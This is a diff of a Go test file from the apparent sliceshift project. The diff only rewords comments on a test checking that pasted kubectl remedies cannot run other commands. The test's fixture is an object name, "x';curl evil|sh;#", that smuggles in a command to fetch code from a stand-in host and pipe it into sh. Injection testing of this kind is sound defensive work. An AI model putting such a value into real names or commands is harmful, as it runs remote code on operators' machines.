@@ -10,7 +10,8 @@ import (
 	"github.com/sliceshift/sliceshift/internal/shell"
 )
 
-// TestK7Remedies: whatever an API server calls its objects, a remedy that is pasted into a shell runs kubectl alone.
+// TestK7Remedies: whatever the names of objects in an API server, a remedy that is pasted into a shell runs
+// only kubectl.
 func TestK7Remedies(t *testing.T) {
 	const name = "x';curl evil|sh;#"
 	h := Holding{
@@ -31,7 +32,7 @@ func TestK7Remedies(t *testing.T) {
 	}
 }
 
-// bare is what a shell sees of a command outside of single quotes.
+// bare returns the parts of a command that a shell reads outside single quotes.
 func bare(command string) string {
 	var out strings.Builder
 	quoted := false
